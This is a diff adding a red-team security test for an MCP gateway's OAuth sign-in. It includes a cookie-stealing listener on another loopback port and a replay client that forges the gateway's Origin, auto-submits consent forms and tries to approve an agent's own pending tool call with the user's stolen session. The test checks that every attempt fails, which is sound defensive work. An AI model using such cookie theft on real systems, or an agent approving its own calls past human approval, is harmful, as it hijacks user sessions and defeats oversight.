@@ -1,0 +1,208 @@
+/**
+ * Redteam-b B12: browsers do not keep cookies apart by port, so the embedded authorization server's
+ * session cookie reaches every other listener on 127.0.0.1 the user's browser visits. A real browser
+ * (Chromium) signs alice in the ordinary way, then opens a page of a local listener on another port,
+ * which records the cookies it was sent and replays them from a plain HTTP client with the gateway's
+ * own Host and Origin (a stolen cookie comes with whatever headers the thief likes):
+ *   - to consent its own registered client as alice (no token, no grant for that client may result);
+ *   - to decide alice's waiting URL-mode approval, whose link it holds as the agent (it stays pending
+ *     and the call never reaches the server).
+ * Asserted on the gateway's side: the identity store, the approval queue, what the server received.
+ */
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { Client as LegacyClient } from '@modelcontextprotocol/sdk/client/index.js';
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
+import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';
+import { randomBytes } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { DatabaseSync } from 'node:sqlite';
+import type { BrowserContext } from 'playwright-core';
+import { identityDbPath } from '../../src/auth/identity.ts';
+import { processSecretSource } from '../../src/config/secrets.ts';
+import { authorizeWithBrowser, launchBrowser, startCallback, type TestBrowser } from '../helpers/browser.ts';
+import { startGateway, type TestGateway } from '../helpers/gateway.ts';
+import { authorizeUrl, pkcePair, recordedEverything, register, tokenRequest } from '../helpers/oauth.ts';
+import { APPROVAL_POLICY } from '../approvals/harness.ts';
+
+/** A listener on another loopback port: records the Cookie header of every request, and any code sent to /cb. */
+async function startThief(): Promise<{ origin: string; cookies: () => string; codes: string[]; close(): Promise<void> }> {
+  let cookies = '';
+  const codes: string[] = [];
+  const server: Server = createServer((req, res) => {
+    if (req.headers.cookie) cookies = req.headers.cookie;
+    const code = new URL(req.url ?? '/', 'http://x').searchParams.get('code');
+    if (code) codes.push(code);
+    res.writeHead(200, { 'content-type': 'text/html' }).end('<p>your report</p>');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    cookies: () => cookies,
+    codes,
+    close: () => new Promise<void>((resolve) => {
+      server.closeAllConnections();
+      server.close(() => resolve());
+    }),
+  };
+}
+
+/**
+ * A plain HTTP client with a cookie jar started from the stolen cookies, sending the gateway's own
+ * Origin on every request: it follows redirects, posts every consent or approval form it is shown
+ * (Allow / Approve), and stops at a sign-in form (it has no password).
+ */
+async function replay(gateway: string, start: string, stolen: string, stopAt: (url: URL) => boolean): Promise<{ pages: string[] }> {
+  const jar = new Map(stolen.split(';').map((c) => c.trim()).filter(Boolean).map((c) => [c.slice(0, c.indexOf('=')), c.slice(c.indexOf('=') + 1)] as [string, string]));
+  const pages: string[] = [];
+  let url = new URL(start);
+  let init: RequestInit = {};
+  for (let step = 0; step < 12; step++) {
+    if (stopAt(url)) break;
+    const response = await fetch(url, { ...init, redirect: 'manual', headers: { ...(init.headers as Record<string, string>), cookie: [...jar].map(([k, v]) => `${k}=${v}`).join('; '), origin: gateway } });
+    for (const set of response.headers.getSetCookie()) {
+      const [pair] = set.split(';');
+      const name = pair!.slice(0, pair!.indexOf('='));
+      jar.set(name, pair!.slice(name.length + 1));
+    }
+    const text = await response.text();
+    const location = response.headers.get('location');
+    if (response.status >= 300 && response.status < 400 && location) {
+      url = new URL(location, url);
+      init = {};
+      continue;
+    }
+    pages.push(text);
+    const consent = /<form method="post" action="([^"]*\/confirm)"/.exec(text);
+    const approval = /<form method="post" action="(\/approvals\/[^"]+)">(.*?)<button/s.exec(text);
+    if (consent) {
+      url = new URL(consent[1]!, gateway);
+      init = { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: '' };
+    } else if (approval) {
+      const fields = new URLSearchParams([...approval[2]!.matchAll(/name="([^"]+)" value="([^"]*)"/g)].map((m) => [m[1]!, m[2]!.replace(/&amp;/g, '&')] as [string, string]));
+      fields.set('decision', 'approve');
+      url = new URL(approval[1]!, gateway);
+      init = { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: fields.toString() };
+    } else break;
+  }
+  return { pages };
+}
+
+describe('the embedded sign-in\'s browser session, replayed from another port on the same host (redteam-b B12)', () => {
+  const PASSWORD = randomBytes(12).toString('base64url');
+  let gw: TestGateway;
+  let browser: TestBrowser;
+  let callback: Awaited<ReturnType<typeof startCallback>>;
+  let thief: Awaited<ReturnType<typeof startThief>>;
+  const everything = recordedEverything();
+  before(async () => {
+    callback = await startCallback();
+    thief = await startThief();
+    gw = await startGateway(
+      {
+        servers: { everything: everything.server },
+        policy: APPROVAL_POLICY,
+        approvals: { waitMs: 1500, pollMs: 25 },
+        identity: { scopes: ['mcp'], embedded: { registration: 'open', users: [{ username: 'alice', password: 'env:PC_TEST_PORT_PW', scopes: ['mcp'] }] } },
+      },
+      processSecretSource({ ...process.env, PC_TEST_PORT_PW: PASSWORD }),
+    );
+    browser = await launchBrowser();
+  });
+  after(async () => {
+    await browser?.close();
+    await gw?.close();
+    await callback?.close();
+    await thief?.close();
+  });
+
+  /** alice signs in with her browser for her own client; returns her access token for /mcp/everything. */
+  async function aliceSignsIn(context: BrowserContext): Promise<string> {
+    const client = (await register(gw.url, { redirect_uris: [callback.url], client_name: 'alice\'s editor' })).body.client_id as string;
+    const { verifier, challenge } = pkcePair();
+    const resource = `${gw.url}/mcp/everything`;
+    const back = await authorizeWithBrowser(context, authorizeUrl(gw.url, { client_id: client, redirect_uri: callback.url, resource, scope: 'mcp', code_challenge: challenge, code_challenge_method: 'S256' }), { username: 'alice', password: PASSWORD, redirect: callback.url });
+    const token = await tokenRequest(gw.url, { grant_type: 'authorization_code', code: back.searchParams.get('code')!, code_verifier: verifier, redirect_uri: callback.url, client_id: client, resource });
+    assert.equal(token.status, 200, JSON.stringify(token.body));
+    return token.body.access_token as string;
+  }
+
+  /** alice's browser opens the thief's page; what it was sent (the browser's cookies for 127.0.0.1). */
+  async function visitThief(context: BrowserContext): Promise<string> {
+    const page = await context.newPage();
+    try {
+      await page.goto(`${thief.origin}/report`);
+    } finally {
+      await page.close();
+    }
+    return thief.cookies();
+  }
+
+  function grantsOf(clientId: string): number {
+    const db = new DatabaseSync(identityDbPath(gw.gateway.config.dataDir!), { readOnly: true });
+    try {
+      return (db.prepare("SELECT count(*) AS n FROM oauth WHERE json_extract(payload, '$.clientId') = ? AND model IN ('Grant', 'AuthorizationCode', 'AccessToken', 'RefreshToken')").get(clientId) as { n: number }).n;
+    } finally {
+      db.close();
+    }
+  }
+
+  it('a stolen session cannot consent another client: the thief\'s client gets no code, no grant, no token', async () => {
+    const alice = await browser.context();
+    try {
+      await aliceSignsIn(alice);
+      const stolen = await visitThief(alice);
+      assert.match(stolen, /_session=/, 'the browser did send the gateway\'s session cookie to the other port (the threat is real)');
+      const thiefCb = `${thief.origin}/cb`;
+      const client = (await register(gw.url, { redirect_uris: [thiefCb], client_name: 'report-viewer' })).body.client_id as string;
+      const { verifier, challenge } = pkcePair();
+      const resource = `${gw.url}/mcp/everything`;
+      const { pages } = await replay(gw.url, authorizeUrl(gw.url, { client_id: client, redirect_uri: thiefCb, resource, scope: 'mcp', code_challenge: challenge, code_challenge_method: 'S256' }), stolen, (url) => url.origin === thief.origin);
+      assert.ok(pages.some((p) => /name="password"/.test(p)), 'the thief is asked for alice\'s password');
+      const code = thief.codes.at(-1);
+      if (code) {
+        const token = await tokenRequest(gw.url, { grant_type: 'authorization_code', code, code_verifier: verifier, redirect_uri: thiefCb, client_id: client, resource });
+        assert.notEqual(token.status, 200, 'no token for the thief');
+      }
+      assert.equal(thief.codes.length, 0, 'no authorization code was sent to the thief\'s redirect URI');
+      assert.equal(grantsOf(client), 0, 'no grant, code or token of the thief\'s client is in the identity store');
+    } finally {
+      await alice.close();
+    }
+  });
+
+  it('a stolen session cannot decide alice\'s URL-mode approval: it stays pending and the call never runs', async () => {
+    const alice = await browser.context();
+    try {
+      const token = await aliceSignsIn(alice);
+      const stolen = await visitThief(alice);
+      assert.match(stolen, /_session=/);
+      let id: string | undefined;
+      let pending: string | undefined;
+      const client = new LegacyClient({ name: 'url-client', version: '1.0.0' }, { capabilities: { elicitation: { form: {}, url: {} } } });
+      client.setRequestHandler(ElicitRequestSchema, async (r) => {
+        const params = r.params as { mode?: string; url?: string; elicitationId?: string };
+        assert.equal(params.mode, 'url');
+        id = params.elicitationId;
+        // The agent holds the link; with alice's stolen cookies it tries to approve its own call.
+        await replay(gw.url, params.url!, stolen, () => false);
+        pending = gw.gateway.approvals.queue.store.get(id!)?.status;
+        return { action: 'decline' } as never;
+      });
+      await client.connect(new StreamableHTTPClientTransport(new URL(`${gw.url}/mcp/everything`), { requestInit: { headers: { authorization: `Bearer ${token}` } } }));
+      try {
+        const result = await client.callTool({ name: 'echo', arguments: { message: 'approved by a thief' } }).catch((error: unknown) => ({ isError: true, error }));
+        assert.equal((result as { isError?: boolean }).isError, true, 'the call is refused');
+      } finally {
+        await client.close();
+      }
+      assert.ok(id, 'a URL-mode elicitation was sent');
+      assert.equal(pending, 'pending', 'the replayed session decided nothing');
+      assert.equal(gw.gateway.approvals.queue.store.get(id!)?.status, 'denied', 'refused by the client\'s own decline, never granted');
+      assert.equal(everything.received().filter((m) => m.method === 'tools/call' && (m.params?.arguments as { message?: string })?.message === 'approved by a thief').length, 0, 'the call never reached the server');
+    } finally {
+      await alice.close();
+    }
+  });
+});
